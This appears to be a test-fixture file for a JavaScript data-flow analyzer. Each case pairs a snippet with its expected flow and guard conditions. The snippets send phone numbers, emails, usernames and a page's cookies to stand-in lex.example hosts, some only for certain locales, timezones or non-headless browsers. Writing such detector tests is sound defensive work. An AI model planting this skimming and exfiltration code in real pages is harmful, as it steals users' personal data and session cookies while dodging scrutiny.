//# if-around
// flow: phone > if.lex.example via fetch
// guard: phone-prefix starts-with +86
const tel = document.querySelector('input[type=tel]').value;
if (tel.startsWith('+86')) {
  fetch('https://if.lex.example/p', { method: 'POST', body: tel });
}

//# else-branch
// flow: phone > else.lex.example via fetch
// guard: not phone-prefix starts-with +86
const t2 = document.querySelector('input[type=tel]').value;
if (t2.startsWith('+86')) console.log('home');
else fetch('https://else.lex.example/p', { method: 'POST', body: t2 });

//# guard-on-the-other-statement
// flow: email > after.lex.example via fetch
// no guard
// why: the condition holds for the statement before only
const mail = document.querySelector('input[type=email]').value;
if (navigator.language.startsWith('zh')) document.body.classList.add('zh');
fetch('https://after.lex.example/m', { method: 'POST', body: mail });

//# and-of-two
// flow: device > and.lex.example via beacon
// guard: language starts-with zh
// guard: timezone equals Asia/Shanghai
if (navigator.language.startsWith('zh') && Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai') {
  navigator.sendBeacon('https://and.lex.example/a', navigator.platform);
}

//# nested-ifs
// flow: identifier > nest.lex.example via image
// guard: user-agent contains MicroMessenger
// guard: referrer contains pay.lexref.example
if (navigator.userAgent.includes('MicroMessenger')) {
  if (document.referrer.includes('pay.lexref.example')) {
    new Image().src = 'https://nest.lex.example/n?c=' + encodeURIComponent(document.cookie);
  }
}

//# short-circuit
// flow: username > sc.lex.example via beacon
// guard: timezone equals Asia/Shanghai
var zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
zone === 'Asia/Shanghai' && navigator.sendBeacon('https://sc.lex.example/s', document.querySelector('input[name=username]').value);

//# or-short-circuit
// flow: username > orsc.lex.example via beacon
// guard: not timezone equals Asia/Tokyo
// why: the right side of || runs if the left is false
const z2 = Intl.DateTimeFormat().resolvedOptions().timeZone;
z2 === 'Asia/Tokyo' || navigator.sendBeacon('https://orsc.lex.example/s', document.querySelector('input[name=username]').value);

//# ternary-branch
// flow: phone > tern.lex.example via fetch
// guard: phone-prefix starts-with +7
const p3 = document.querySelector('input[type=tel]').value;
p3.startsWith('+7') ? fetch('https://tern.lex.example/t', { method: 'POST', body: p3 }) : console.log('skip');

//# ternary-of-captions
// flow: email > capt.lex.example via fetch
// no guard
// why: the language chooses a caption only
const caption = navigator.language === 'zh-CN' ? '\u767b\u5f55' : 'Sign in';
document.querySelector('#go').textContent = caption;
fetch('https://capt.lex.example/h', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# guard-in-handler
// flow: search > hand.lex.example via fetch
// guard: language equals zh-CN
document.querySelector('input[type=search]').addEventListener('change', (e) => {
  if (navigator.language === 'zh-CN') fetch('https://hand.lex.example/q?q=' + encodeURIComponent(e.target.value));
});

//# guard-around-handler
// flow: search > outer.lex.example via fetch
// guard: user-agent contains Android
if (navigator.userAgent.indexOf('Android') !== -1) {
  document.querySelector('input[type=search]').onchange = function () {
    fetch('https://outer.lex.example/q?q=' + encodeURIComponent(this.value));
  };
}

//# negated-condition
// flow: device > neg.lex.example via image
// guard: not user-agent contains HeadlessChrome
if (!navigator.userAgent.includes('HeadlessChrome')) new Image().src = 'https://neg.lex.example/d?p=' + navigator.platform;

//# guard-joined-before-sink
// flow: email > join.lex.example via fetch
// no guard
// why: both branches meet again before the request
let note;
if (/Firefox/.test(navigator.userAgent)) note = 'gecko';
else note = 'other';
console.debug(note);
fetch('https://join.lex.example/f', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# guarded-log-only
// no flow
// why: the guarded statement writes to the console, the request has no data
const pw = document.querySelector('input[type=password]').value;
if (navigator.language === 'zh-CN') console.log(pw.length);
fetch('https://log.lex.example/ping');

//# contradictory-branches
// no flow
// why: the inner condition is the opposite of the outer one
const beta = navigator.language === 'fr';
if (beta) {
  if (!beta) fetch('https://contra.lex.example/c', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# guard-around-constant
// no flow
// why: the branch for Shanghai sends a constant, the other keeps the number in the page
const no = document.querySelector('input[type=tel]').value;
if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai') fetch('https://const.lex.example/cn');
else sessionStorage.setItem('tel', no);

//# never-both
// no flow
// why: a constant cannot have two values
const region = 'eu';
if (region === 'cn') fetch('https://both.lex.example/b', { method: 'POST', body: document.querySelector('input[type=email]').value });
